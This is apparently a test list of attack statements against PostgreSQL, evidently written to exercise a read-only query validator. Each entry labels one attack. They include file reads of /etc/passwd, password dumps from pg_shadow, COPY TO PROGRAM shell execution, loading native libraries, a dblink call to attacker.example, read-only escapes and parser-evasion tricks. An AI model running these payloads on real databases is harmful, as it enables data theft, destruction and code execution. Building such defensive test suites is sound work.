-- Attacks on PostgreSQL. See attacks-shared.sql for the form of an entry.

--- pg_read_file: reads a file of the server
SELECT pg_read_file('/etc/passwd')

--- pg_read_file in from: reads a file of the server
SELECT * FROM pg_read_file('/etc/passwd')

--- pg_read_binary_file: reads a file of the server
SELECT pg_read_binary_file('/etc/passwd')

--- pg_ls_dir: lists files
SELECT pg_ls_dir('/etc')

--- pg_ls_logdir: lists files
SELECT * FROM pg_ls_logdir()

--- pg_ls_waldir: lists files
SELECT * FROM pg_ls_waldir()

--- pg_stat_file: tells about a file
SELECT * FROM pg_stat_file('/etc/passwd')

--- pg_current_logfile: tells the path of the log
SELECT pg_current_logfile()

--- pg_file_write: writes a file
SELECT pg_file_write('/tmp/loot', 'x', false)

--- lo_import: reads a file into the database
SELECT lo_import('/etc/passwd')

--- lo_export: writes a file
SELECT lo_export(12345, '/tmp/loot')

--- lo_create: makes a large object, allowed to everybody
SELECT lo_create(0)

--- lo_from_bytea: makes a large object
SELECT lo_from_bytea(0, 'x')

--- lo_put: changes a large object
SELECT lo_put(12345, 0, 'x')

--- lo_unlink: removes a large object
SELECT lo_unlink(12345)

--- lo_get: reads a large object
SELECT lo_get(12345)

--- loread: reads a large object
SELECT loread(lo_open(12345, 262144), 100)

--- dblink: runs code on another server
SELECT * FROM dblink('host=db', 'DELETE FROM t') AS t(x integer)

--- dblink_exec: runs code on another server
SELECT dblink_exec('host=db', 'DELETE FROM t')

--- dblink_connect: calls another server
SELECT dblink_connect('host=attacker.example')

--- dblink_send_query: runs code on another server
SELECT dblink_send_query('c', 'DELETE FROM t')

--- set_config: makes the transaction writable
SELECT set_config('transaction_read_only', 'off', false)

--- set_config of the timeout: runs for ever
SELECT set_config('statement_timeout', '0', false)

--- set_config in where: makes the transaction writable
SELECT * FROM customers WHERE set_config('role', 'postgres', false) = 'postgres'

--- current_setting: tells the settings
SELECT current_setting('data_directory')

--- pg_sleep: waits
SELECT pg_sleep(3600)

--- pg_sleep_for: waits
SELECT pg_sleep_for('1 hour')

--- pg_sleep_until: waits
SELECT pg_sleep_until('tomorrow 03:00')

--- pg_sleep in where: waits for each row
SELECT * FROM customers WHERE pg_sleep(1) IS NULL

--- pg_sleep quoted: waits
SELECT "pg_sleep"(3600)

--- pg_sleep qualified: waits
SELECT pg_catalog.pg_sleep(3600)

--- pg_sleep with a unicode name: waits
SELECT U&"pg\005fsleep"(3600)

--- pg_sleep without parentheses: a column of a table function's alias is a call
SELECT g.pg_sleep FROM generate_series(1, 3600) AS g

--- pg_read_file without parentheses: a column of a table function's alias is a call
SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) AS f

--- pg_ls_dir without parentheses: a column of a table function's alias is a call
SELECT f.pg_ls_dir FROM string_to_table('/etc', ',') AS f

--- pg_read_file as a field: a field of a value is a call
SELECT ('/etc/passwd'::text).pg_read_file

--- own function as a field of a row: a field of a row is a call
SELECT o.delete_me FROM orders o

--- own function as a field of a quoted row: a field of a row is a call
SELECT "orders"."delete_me" FROM orders

--- pg_advisory_lock: locks, allowed to everybody
SELECT pg_advisory_lock(1)

--- pg_try_advisory_lock: locks, allowed to everybody
SELECT pg_try_advisory_lock(1)

--- pg_advisory_xact_lock: locks, allowed to everybody
SELECT pg_advisory_xact_lock(1)

--- pg_terminate_backend: ends other sessions
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

--- pg_cancel_backend: stops others' statements
SELECT pg_cancel_backend(12345)

--- pg_reload_conf: reloads the settings
SELECT pg_reload_conf()

--- pg_rotate_logfile: begins a new log
SELECT pg_rotate_logfile()

--- pg_switch_wal: begins a new log
SELECT pg_switch_wal()

--- pg_create_restore_point: writes the log
SELECT pg_create_restore_point('loot')

--- pg_logical_emit_message: writes the log
SELECT pg_logical_emit_message(false, 'x', 'y')

--- pg_create_physical_replication_slot: fills the disk
SELECT pg_create_physical_replication_slot('loot')

--- pg_drop_replication_slot: breaks a replica
SELECT pg_drop_replication_slot('loot')

--- pg_promote: turns a replica into a primary
SELECT pg_promote()

--- pg_notify: sends a message
SELECT pg_notify('channel', 'loot')

--- pg_export_snapshot: writes a file
SELECT pg_export_snapshot()

--- pg_stat_reset: loses statistics
SELECT pg_stat_reset()

--- pg_backend_pid: tells about the server
SELECT pg_backend_pid()

--- pg_relation_filepath: tells the path of a table
SELECT pg_relation_filepath('customers')

--- pg_get_viewdef: tells code
SELECT pg_get_viewdef('v'::regclass)

--- pg_get_functiondef: tells code
SELECT pg_get_functiondef(1234)

--- query_to_xml: runs the text that it is given
SELECT query_to_xml('SELECT * FROM pg_shadow', true, false, '')

--- query_to_xml with a write: runs the text that it is given
SELECT query_to_xml('DELETE FROM order_items RETURNING 1', true, false, '')

--- query_to_xmlschema: runs the text that it is given
SELECT query_to_xmlschema('SELECT * FROM pg_shadow', true, false, '')

--- table_to_xml: reads the table that is named in a text
SELECT table_to_xml('pg_shadow', true, false, '')

--- database_to_xml: reads everything
SELECT database_to_xml(true, false, '')

--- schema_to_xml: reads everything
SELECT schema_to_xml('public', true, false, '')

--- cursor_to_xml: reads a cursor
SELECT cursor_to_xml('c', 1, true, false, '')

--- ts_stat: runs the text that it is given
SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')

--- ts_rewrite: runs the text that it is given
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM pg_shadow')

--- crosstab: runs the text that it is given
SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a integer, b integer)

--- xpath_table: runs the text that it is given
SELECT * FROM xpath_table('id', 'x', 'pg_shadow', '/a', 'true') AS t(a integer)

--- pg_shadow: tells passwords
SELECT usename, passwd FROM pg_shadow

--- pg_authid: tells passwords
SELECT rolname, rolpassword FROM pg_catalog.pg_authid

--- pg_user: tells users
SELECT * FROM pg_user

--- pg_roles: tells users
SELECT * FROM pg_roles

--- pg_hba_file_rules: tells who may log in
SELECT * FROM pg_hba_file_rules

--- pg_settings: tells the settings
SELECT * FROM pg_settings

--- pg_stat_activity: tells what others ask
SELECT query FROM pg_stat_activity

--- pg_stat_statements: tells what others asked
SELECT query FROM pg_stat_statements

--- pg_class: tells the tables
SELECT relname FROM pg_class

--- pg_tables: tells the tables
SELECT * FROM pg_tables

--- pg_proc: tells the functions
SELECT prosrc FROM pg_catalog.pg_proc

--- pg_stats: tells values of columns
SELECT most_common_vals FROM pg_stats

--- pg_largeobject: reads large objects
SELECT data FROM pg_largeobject

--- pg_foreign_server: tells other servers
SELECT srvoptions FROM pg_foreign_server

--- pg_user_mappings: tells passwords of other servers
SELECT umoptions FROM pg_user_mappings

--- system table behind a cte: the name inside means the real table
WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow

--- system table in upper case and quotes: tells passwords
SELECT * FROM "pg_catalog"."pg_shadow"

--- copy to program: runs a program
COPY customers TO PROGRAM 'sh -c id'

--- copy from program: runs a program
COPY customers FROM PROGRAM 'id'

--- copy to file: writes a file
COPY (SELECT * FROM customers) TO '/tmp/loot'

--- copy from file: reads a file
COPY customers FROM '/etc/passwd'

--- copy to stdout: not a query
COPY customers TO STDOUT

--- do block: a program
DO $$ BEGIN DELETE FROM order_items; END $$

--- do block with a string: a program
DO 'BEGIN DELETE FROM order_items; END'

--- set transaction read write: leaves the read-only transaction
SET TRANSACTION READ WRITE; DELETE FROM order_items

--- commit and delete, with a prepared statement: the driver splits at the semicolon
SELECT 1; COMMIT; DELETE FROM order_items; BEGIN

--- rollback and begin read write: leaves the read-only transaction
ROLLBACK; BEGIN READ WRITE; DELETE FROM order_items; COMMIT

--- abort: ends the transaction
ABORT

--- end: ends the transaction
END; DELETE FROM order_items

--- commit and chain: ends the transaction and begins another
COMMIT AND CHAIN

--- prepare transaction: keeps locks
PREPARE TRANSACTION 'loot'

--- set session authorization: becomes somebody else
SET SESSION AUTHORIZATION postgres

--- set role: becomes somebody else
SET ROLE postgres

--- reset session authorization: becomes somebody else
RESET SESSION AUTHORIZATION

--- set local: changes the settings
SET LOCAL statement_timeout = 0

--- discard all: loses the session's settings
DISCARD ALL

--- alter system: changes the server
ALTER SYSTEM SET shared_preload_libraries = 'evil'

--- alter role: changes a login
ALTER ROLE postgres PASSWORD 'x'

--- create extension: adds code
CREATE EXTENSION dblink

--- create function in c: runs native code
CREATE FUNCTION loot() RETURNS void AS '/tmp/evil.so' LANGUAGE c

--- create temp table: allowed to everybody
CREATE TEMP TABLE loot AS SELECT * FROM customers

--- create server: calls another server
CREATE SERVER loot FOREIGN DATA WRAPPER postgres_fdw

--- create rule: code that stays
CREATE RULE loot AS ON SELECT TO customers DO INSTEAD DELETE FROM orders

--- listen: waits for messages
LISTEN channel

--- notify: sends a message
NOTIFY channel, 'loot'

--- load: runs native code
LOAD 'evil'

--- vacuum: writes the files
VACUUM FULL customers

--- cluster: writes the files
CLUSTER customers

--- reindex: writes the files
REINDEX TABLE customers

--- refresh materialized view: writes a table
REFRESH MATERIALIZED VIEW loot

--- PostgreSQL explain analyze: runs what it explains
EXPLAIN (ANALYZE, BUFFERS) DELETE FROM order_items

--- declare cursor: state of the session
DECLARE c CURSOR FOR SELECT * FROM customers

--- fetch: reads a cursor
FETCH ALL FROM c

--- move: moves a cursor
MOVE ALL FROM c

--- select into temp: makes a table
SELECT * INTO TEMP loot FROM customers

--- select into unlogged: makes a table
SELECT * INTO UNLOGGED loot FROM customers

--- select into after with: makes a table
WITH x AS (SELECT * FROM customers) SELECT * INTO loot FROM x

--- insert returning: adds a row and looks like a query
INSERT INTO customers SELECT id + 100, name, email, city, country, segment, signup_date, credit_limit FROM customers RETURNING id

--- update returning in a cte: writes and looks like a query
WITH u AS (UPDATE orders SET status = 'x' RETURNING id), d AS (DELETE FROM order_items) SELECT * FROM u

--- merge in a cte: writes and looks like a query
WITH m AS (MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m

--- delete hidden in a materialized cte: writes and looks like a query
WITH d AS MATERIALIZED (DELETE FROM order_items RETURNING order_id) SELECT count(*) FROM d

--- for no key update: locks rows
SELECT * FROM orders FOR NO KEY UPDATE

--- for key share: locks rows
SELECT * FROM orders FOR KEY SHARE

--- for update nowait in a cte: locks rows
WITH x AS (SELECT * FROM orders FOR UPDATE NOWAIT) SELECT count(*) FROM x

--- lock: locks a table
LOCK orders IN ACCESS EXCLUSIVE MODE

--- nested comments: PostgreSQL nests them, others do not
SELECT /* /* */ 1; DELETE FROM order_items; -- */ 1

--- dollar quotes around a quote: the quote opens nothing
SELECT $a$'$a$, pg_sleep(3600), $b$'$b$

--- escape string: backslash-quote ends nothing
SELECT E'\' || pg_sleep(3600)::text || E\''

--- unicode escapes with another escape character: other characters than are written
SELECT U&'!0027' UESCAPE '!'

--- bit string: not a text
SELECT B'1010'

--- operator with a schema: another operator behind a known sign
SELECT 1 OPERATOR(evil.+) 2

--- cast to regclass: tells of a table
SELECT 'pg_shadow'::regclass::oid

--- cast to regproc: tells of a function
SELECT 'pg_sleep'::regproc

--- cast to an unknown type: runs the type's input function
SELECT 'x'::evil_type

--- cast to xml: reads entities
SELECT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'::xml

--- xmlparse: reads entities
SELECT XMLPARSE(DOCUMENT '<a/>')

--- named argument: another way to call
SELECT pg_sleep(secs => 3600)

--- variadic: another way to call
SELECT format('%s', VARIADIC ARRAY[pg_read_file('/etc/passwd')])

--- rows from: another way to call
SELECT * FROM ROWS FROM (pg_ls_dir('/etc'), pg_ls_dir('/tmp')) AS t

--- lateral function call: another way to call
SELECT * FROM customers c, LATERAL pg_read_file(c.name) AS f

--- function with ordinality: another way to call
SELECT * FROM pg_ls_dir('/etc') WITH ORDINALITY

--- function in limit: another place to call
SELECT * FROM customers LIMIT pg_sleep(1)::text::integer

--- function in offset: another place to call
SELECT * FROM customers OFFSET length(pg_read_file('/etc/passwd'))

--- function in filter: another place to call
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM customers

--- function in a named window: another place to call
SELECT sum(id) OVER w FROM orders WINDOW w AS (ORDER BY pg_sleep(1))

--- function in an array: another place to call
SELECT ARRAY[pg_read_file('/etc/passwd')]

--- function in a row: another place to call
SELECT ROW(1, pg_read_file('/etc/passwd'))

--- function in distinct on: another place to call
SELECT DISTINCT ON (pg_sleep(1)) * FROM customers

--- function in grouping sets: another place to call
SELECT count(*) FROM customers GROUP BY GROUPING SETS ((pg_sleep(1)), ())

--- function in a between: another place to call
SELECT * FROM customers WHERE id BETWEEN 1 AND length(pg_read_file('/etc/passwd'))

--- function in tablesample: another place to call
SELECT * FROM customers TABLESAMPLE evil_method(10)

--- function in any: another place to call
SELECT * FROM customers WHERE name = ANY (ARRAY(SELECT pg_ls_dir('/etc')))

--- function in an interval: another place to call
SELECT * FROM orders WHERE ordered_at > now() - (pg_read_file('/x') || ' day')::interval

--- nextval by a cast: a write
SELECT nextval('customers_id_seq'::regclass)

--- setval: a write
SELECT setval('customers_id_seq', 1)

--- currval: state of the session
SELECT currval('customers_id_seq')

--- txid_current: takes a transaction number
SELECT txid_current()

--- has_table_privilege: tells about rights
SELECT has_table_privilege('pg_authid', 'SELECT')

--- inet_server_addr: tells about the server
SELECT inet_server_addr()

--- version: tells about the server
SELECT version()

--- current_user: tells the login
SELECT current_user

--- session_user: tells the login
SELECT session_user

--- generate_series without an end: many rows
SELECT count(*) FROM generate_series(1, 100000000000)

--- repeat: takes all memory
SELECT repeat('x', 1000000000)

--- binary copy of a table: dumps it
SELECT pg_dump('customers')

--- plpgsql injection by format: not a reading of data
SELECT format('DELETE FROM %I', 'orders') \gexec

--- psql command: not a statement
\! id

--- table statement: a query without SELECT over a system table
TABLE pg_shadow

--- only: a system table
SELECT * FROM ONLY pg_shadow

--- asterisk: a system table
SELECT * FROM pg_shadow *

--- call by a column, behind two aliases that differ in case: "G" is another name than g
SELECT g.pg_sleep FROM generate_series(1, 3600) AS g, (SELECT 1 AS a) AS "G"

--- call by a column of the outer query: the inner alias "G" does not hide g
SELECT (SELECT g.pg_sleep FROM (SELECT 1 AS a) AS "G") FROM generate_series(1, 3600) AS g

--- call by a column, behind an alias that the parser reserves: Number and number are the same
SELECT number.pg_sleep FROM generate_series(1, 3600) AS Number

--- call by a column of a function without an alias: the function's name is its alias
SELECT generate_series.pg_sleep FROM generate_series(1, 3600)

--- call by a column behind a schema: three parts
SELECT public.orders.delete_me FROM orders

--- call by a column that is also an alias: the alias elsewhere does not make it a column
SELECT f.pg_read_file, 1 AS pg_read_file FROM regexp_split_to_table('/etc/passwd', ',') AS f

--- call by a column of a lateral function: a column of a table function's alias is a call
SELECT f.pg_ls_dir FROM customers c CROSS JOIN LATERAL regexp_split_to_table('/etc', ',') AS f

--- cte in another case in quotes: payroll is not "Payroll"
WITH "Payroll" AS (SELECT 1 AS a) SELECT * FROM payroll

--- two slashes: a comment to the parser only
SELECT 1 // pg_sleep(3600)

--- hash that sticks to a name: an operator here, a part of the name elsewhere
SELECT id#pg_sleep(1) FROM orders

--- dot inside a quoted name: one name here, schema and table to the parser
SELECT * FROM "public.orders"
